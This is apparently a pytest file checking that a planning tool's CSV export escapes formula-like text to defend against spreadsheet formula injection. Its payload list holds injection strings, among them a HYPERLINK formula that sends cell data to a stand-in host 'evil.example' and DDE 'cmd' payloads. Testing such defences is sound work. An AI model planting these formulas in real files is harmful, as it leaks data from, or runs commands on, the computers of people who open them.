"""Issue 17.5: ``export --format csv`` keeps formula-like text from running.

The attack: a plan (under review, or copied from a customer's mail) names a task
``=HYPERLINK(...)``. Opened in a spreadsheet, the exported timetable must show that
text, not run it; numbers stay numbers, and ``formulas=True`` is the opt-out.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest

from planforge.check import check_file
from planforge.export import files
from planforge.export.csv import cell_text
from tests.conftest import EXAMPLE

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(tmp_path: Path, payload: str, **options) -> list[list[str]]:
    plan = tmp_path / "plan.yaml"
    text = EXAMPLE.read_text("utf-8").replace(
        "name: 客户数据筛选与分层", f"name: {json.dumps(payload, ensure_ascii=False)}", 1
    )
    plan.write_text(text, "utf-8")
    result = check_file(str(plan), read_data=True)
    assert result.plan is not None and not result.failed(), result.diagnostics
    out = files(result.plan, str(plan), "csv", **options)
    timetable = next(v for k, v in out.items() if k.endswith("-timetable.csv"))
    return list(csv.reader(io.StringIO(timetable.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_kept_as_text(tmp_path: Path, payload: str) -> None:
    rows = _export(tmp_path, payload)
    cells = [c for row in rows for c in row]
    assert "'" + payload in cells
    assert payload not in cells
    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells)


def test_the_opt_out_writes_the_text_as_it_is(tmp_path: Path) -> None:
    rows = _export(tmp_path, PAYLOADS[0], formulas=True)
    assert PAYLOADS[0] in [c for row in rows for c in row]


def test_numbers_are_never_changed() -> None:
    assert cell_text(Decimal("-500.00")) == "-500.00"
    assert cell_text(-3) == "-3"
    assert cell_text("-3") == "'-3"
